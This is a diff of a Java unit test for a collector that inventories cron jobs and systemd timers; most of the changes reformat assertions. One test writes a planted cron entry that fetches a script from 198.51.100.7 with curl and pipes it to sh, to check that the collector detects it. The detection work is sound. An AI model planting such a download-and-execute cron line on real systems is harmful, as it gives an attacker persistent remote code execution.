@@ -20,6 +20,7 @@ class ScheduledTaskCollectorTest {
 
     @RegisterExtension
     final FixtureRoot fixture = new FixtureRoot();
+
     Path root;
     List<ObjectNode> docs;
 
@@ -35,12 +36,21 @@ class ScheduledTaskCollectorTest {
 
     @Test
     void everyCronJobPeriodicScriptAndTimerIsATaskButRebootJobsAreNot() {
-        assertThat(Fields.column(docs, "scheduled_task.path")).containsExactlyInAnyOrder(
-                "/etc/crontab:6", "/etc/crontab:7", "/etc/crontab:9",
-                "/etc/cron.d/backup:3", "/etc/cron.d/backup:4", "/etc/cron.d/backup:6", "/etc/cron.d/backup:7",
-                "/var/spool/cron/crontabs/alice:3", "/var/spool/cron/bob:1",
-                "/etc/cron.daily/logrotate", "/etc/cron.hourly/not-executable",
-                "/usr/lib/systemd/system/backup.timer", "/usr/lib/systemd/system/cleanup.timer");
+        assertThat(Fields.column(docs, "scheduled_task.path"))
+                .containsExactlyInAnyOrder(
+                        "/etc/crontab:6",
+                        "/etc/crontab:7",
+                        "/etc/crontab:9",
+                        "/etc/cron.d/backup:3",
+                        "/etc/cron.d/backup:4",
+                        "/etc/cron.d/backup:6",
+                        "/etc/cron.d/backup:7",
+                        "/var/spool/cron/crontabs/alice:3",
+                        "/var/spool/cron/bob:1",
+                        "/etc/cron.daily/logrotate",
+                        "/etc/cron.hourly/not-executable",
+                        "/usr/lib/systemd/system/backup.timer",
+                        "/usr/lib/systemd/system/cleanup.timer");
     }
 
     @Test
@@ -74,7 +84,9 @@ class ScheduledTaskCollectorTest {
         assertThat(bool(php, "scheduled_task.privileged")).isFalse();
         assertThat(text(php, "scheduled_task.account_type")).isEqualTo("service");
         assertThat(text(task("/etc/cron.d/backup:3"), "user.name")).isEqualTo("alice");
-        assertThat(bool(task("/etc/cron.d/backup:3"), "scheduled_task.privileged")).as("alice is in sudo").isTrue();
+        assertThat(bool(task("/etc/cron.d/backup:3"), "scheduled_task.privileged"))
+                .as("alice is in sudo")
+                .isTrue();
         assertThat(text(task("/etc/cron.d/backup:7"), "process.executable")).isEqualTo("/usr/bin/echo");
     }
 
@@ -100,7 +112,8 @@ class ScheduledTaskCollectorTest {
         assertThat(text(logrotate, "process.executable")).isEqualTo("/etc/cron.daily/logrotate");
         assertThat(text(logrotate, "process.hash.sha256"))
                 .isEqualTo(ServiceCollectorTest.sha256(root.resolve("etc/cron.daily/logrotate")));
-        assertThat(bool(task("/etc/cron.hourly/not-executable"), "scheduled_task.enabled")).isFalse();
+        assertThat(bool(task("/etc/cron.hourly/not-executable"), "scheduled_task.enabled"))
+                .isFalse();
     }
 
     @Test
@@ -124,8 +137,10 @@ class ScheduledTaskCollectorTest {
 
     @Test
     void aCronFilePlantedInARootIsFound() throws Exception {
-        Files.writeString(root.resolve("etc/cron.d/planted"), "* * * * * nobody /usr/bin/curl -s http://198.51.100.7/x | sh\n");
-        ObjectNode planted = only(new ScheduledTaskCollector(root).collect(), "scheduled_task.path", "/etc/cron.d/planted:1");
+        Files.writeString(
+                root.resolve("etc/cron.d/planted"), "* * * * * nobody /usr/bin/curl -s http://198.51.100.7/x | sh\n");
+        ObjectNode planted =
+                only(new ScheduledTaskCollector(root).collect(), "scheduled_task.path", "/etc/cron.d/planted:1");
         assertThat(text(planted, "user.name")).isEqualTo("nobody");
         assertThat(text(planted, "process.command_line")).contains("198.51.100.7");
     }
